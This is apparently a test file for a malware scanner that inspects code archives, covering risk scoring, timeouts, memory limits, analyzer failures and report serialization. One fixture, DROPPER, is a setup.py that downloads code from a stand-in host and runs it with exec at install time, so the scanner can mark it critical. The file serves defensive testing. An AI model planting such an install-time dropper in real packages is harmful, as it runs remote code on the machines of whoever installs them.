import dataclasses
import json

import pytest

from sandbox.spec import Completed, Limits
from scanner.analyzers import inside, registry
from scanner.analyzers.base import MOST_FINDINGS, Severity
from scanner.analyzers.children import ChildLimits
from scanner.analyzers.memory import MemoryAnalyzer
from scanner.engine import Report, RunStatus, scan
from scanner.engine.answer import Answer
from scanner.engine.options import Options
from scanner.scoring import Risk
from tests.scanner.test_scoring import a_finding


class OtherAnalyzer(MemoryAnalyzer):
    name = "other"


DROPPER = """
from setuptools import setup
import base64, urllib.request

exec(base64.b64decode(urllib.request.urlopen("https://files.invalid/step").read()))
setup(name="nice-app")
"""
APP = """
from flask import Flask

app = Flask(__name__)


@app.get("/")
def index():
    return "hello"
"""


def test_a_malicious_archive_is_critical(pack, state):
    archive = pack({"setup.py": DROPPER, "app.py": APP})

    report = scan(archive, state=state, declared={})

    assert report.risk is Risk.CRITICAL
    assert report.complete
    worst = report.findings[0]
    assert (worst.path, worst.line, worst.severity) == ("setup.py", 5, Severity.CRITICAL)
    assert "setup.py:5" in report.reasons[0]


def test_an_ordinary_app_is_low_and_every_analyzer_has_read_it(pack, state):
    archive = pack({"app.py": APP, "static/app.js": "console.log(1);\n"})

    report = scan(archive, state=state, declared={"hosts": []})

    assert report.risk is Risk.LOW
    assert report.files == 2
    assert [(run.name, run.status) for run in report.analyzers] == [
        (analyzer.name, RunStatus.DONE) for analyzer in registry.analyzers({})
    ]


def test_the_same_archive_gives_the_same_report(pack, state):
    archive = pack({"setup.py": DROPPER, "a.js": "eval(x);\n", "b.js": "eval(x);\n"})

    first, second = (scan(archive, state=state, declared={}) for _ in range(2))

    assert first.findings == second.findings
    assert (first.risk, first.reasons) == (second.risk, second.reasons)
    assert len({finding.fingerprint for finding in first.findings}) == len(first.findings)


def test_what_was_not_read_closely_is_listed(pack, state):
    archive = pack({"node_modules/a/i.js": "1;\n", "big.py": "#" * 3_000_000, "app.py": APP})

    report = scan(archive, state=state, declared={})

    assert [path for path, _ in report.skipped] == ["big.py", "node_modules/a/i.js"]


def test_a_scan_that_runs_out_of_time_is_incomplete_and_high(pack, state):
    archive = pack({"app.py": APP})

    report = scan(archive, state=state, declared={}, options=Options(timeout_seconds=0.2))

    assert not report.complete
    assert report.risk is Risk.HIGH
    assert "timeout" in report.findings[0].evidence


def test_a_scan_that_runs_out_of_memory_is_incomplete_and_high(pack, state):
    noise = "\n".join(f"v{n} = [{n}, {n}, {n}]" for n in range(60_000))
    archive = pack({f"big{n}.py": noise for n in range(3)})
    small = Limits(cpu_millicores=2000, memory_mib=96, disk_mib=64, processes=16)

    report = scan(archive, state=state, declared={}, options=Options(limits=small))

    assert not report.complete
    assert report.risk is Risk.HIGH
    assert RunStatus.OUT_OF_MEMORY in {run.status for run in report.analyzers}


def test_what_is_no_archive_is_never_a_pass(state):
    archive = state / "noise.bin"
    archive.write_bytes(b"no archive at all")

    report = scan(archive, state=state, declared={})

    assert not report.complete
    assert report.risk is Risk.HIGH
    (finding,) = report.findings
    assert finding.message == "The archive was refused, so nothing of it was read."
    assert finding.evidence == "The file is not an archive; use zip, tar.gz or tar.xz."


def answered(tree, chosen, capsys):
    inside.read(tree({"app.py": APP}), chosen, ChildLimits())
    answer = Answer(reason="", expected=[(each.name, each.version) for each in chosen])
    for line in capsys.readouterr().out.splitlines():
        answer.take(json.loads(line))
    return answer.report(seconds=0.1)


def test_an_analyzer_that_crashes_keeps_its_findings_and_the_others_run(tree, capsys):
    broken = MemoryAnalyzer((a_finding(),), failure=RecursionError("too deep"))

    report = answered(tree, [broken, OtherAnalyzer()], capsys)

    assert [run.status for run in report.analyzers] == [RunStatus.FAILED, RunStatus.DONE]
    assert {finding.rule for finding in report.findings} == {"engine.incomplete", "python.x"}
    assert report.risk is Risk.HIGH


def test_an_analyzer_that_failed_once_gets_a_second_go(tree, capsys, tmp_path):
    class FailsTheFirstTime(MemoryAnalyzer):
        def analyze(self, tree):
            if not (tmp_path / "tried").exists():
                (tmp_path / "tried").touch()
                raise OSError
            yield a_finding()

    report = answered(tree, [FailsTheFirstTime()], capsys)

    assert report.complete
    assert [finding.rule for finding in report.findings] == ["python.x"]


@pytest.mark.parametrize(
    "line",
    [
        b'{"event": "answer", "name": "python"}',
        b'{"event": "tree"}',
        b"[1]",
        b'"x"',
        (
            b'{"event": "answer", "name": "nobody", "status": "done", "wall_seconds": 1, '
            b'"findings": [], "details": {}}'
        ),
    ],
)
def test_an_answer_that_makes_no_sense_is_never_a_pass(line):
    expected = json.dumps({"event": "expect", "analyzers": [["python", "1"]]}).encode()
    completed = Completed(exit_code=0, stdout=expected + b"\n" + line, stderr=b"", reason="")

    report = Answer.of(completed).report(seconds=0.1)

    assert not report.complete
    assert report.risk is Risk.HIGH


def test_progress_is_told_while_it_happens(pack, state):
    told = []

    scan(pack({"app.py": APP}), state=state, declared={}, on_event=told.append)

    assert [event["event"] for event in told[:4]] == ["expect", "tree", "started", "answer"]
    assert told[3]["status"] == "done"


def test_a_scan_that_is_called_off_leaves_nothing_running(pack, state):
    class CalledOff(Exception):
        pass

    def call_off(event):
        if event["event"] == "started":
            raise CalledOff

    with pytest.raises(CalledOff):
        scan(pack({"app.py": APP}), state=state, declared={}, on_event=call_off)


def a_report(findings):
    return Report.of(findings=findings, analyzers=[], files=1, skipped=[], seconds=0.5)


def test_a_report_survives_its_way_through_json():
    report = a_report([a_finding(), a_finding(severity=Severity.HIGH)])

    assert Report.from_json(report.to_json()) == report
    assert json.loads(report.to_json())["findings"][0]["fingerprint"]


def test_too_many_findings_are_cut_from_the_harmless_end():
    many = [dataclasses.replace(a_finding(), line=number) for number in range(3000)]
    grave = a_finding(severity=Severity.HIGH)

    report = a_report([*many, grave])

    assert len(report.findings) == MOST_FINDINGS
    assert report.findings[0] == grave
    assert report.findings[-1].rule == "engine.truncated"
    assert report.risk is Risk.HIGH


@pytest.mark.parametrize("change", [{"line": 40}, {"message": "Other words."}])
def test_a_fingerprint_stays_when_code_only_moves(change):
    finding = a_finding()

    assert dataclasses.replace(finding, **change).fingerprint == finding.fingerprint
    assert dataclasses.replace(finding, path="b.py").fingerprint != finding.fingerprint
